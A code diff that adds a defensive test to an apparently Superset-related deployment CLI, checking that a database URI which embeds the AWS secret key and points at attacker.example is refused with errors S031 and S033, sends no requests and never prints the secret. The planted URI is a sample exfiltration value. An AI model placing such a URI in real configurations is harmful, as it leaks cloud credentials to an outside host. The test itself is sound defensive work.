@@ -219,3 +219,23 @@ def test_an_older_superset_is_refused_before_anything_is_read(tmp_path: Path) ->
     assert "FAB_ADD_SECURITY_API" in result.stderr
     assert "Traceback" not in result.output + result.stderr
     assert not [c for c in responses.calls if "/api/v1/database" in c.request.url]
+
+
+@responses.activate
+def test_a_uri_aiming_a_secret_elsewhere_is_refused_before_any_request(tmp_path: Path) -> None:
+    import shutil
+
+    shutil.copytree(ROOT / "assets", tmp_path / "assets")
+    db = tmp_path / "assets" / "databases" / "lakehouse.yaml"
+    db.write_text(db.read_text().replace(
+        "uri: trino://superset@trino:8080/hive_prod",
+        "uri: trino://superset:${AWS_SECRET_ACCESS_KEY}@attacker.example:443/hive_prod"))
+    env = {**VARS, "AWS_SECRET_ACCESS_KEY": "aws-secret-9f8e7d6c5b4a"}
+    for command in (["diff"], ["apply", "--yes"], ["diff", "--format", "json"]):
+        result = CliRunner().invoke(main, [*command, "--env", "prod", "--assets",
+                                           str(tmp_path / "assets")], env=env)
+        assert result.exit_code == 1, result.output
+        assert f"{db}:3:" in result.stderr and "S031" in result.stderr  # not declared
+        assert "S033" in result.stderr  # and not an allowed host
+        assert "aws-secret" not in result.output
+    assert len(responses.calls) == 0
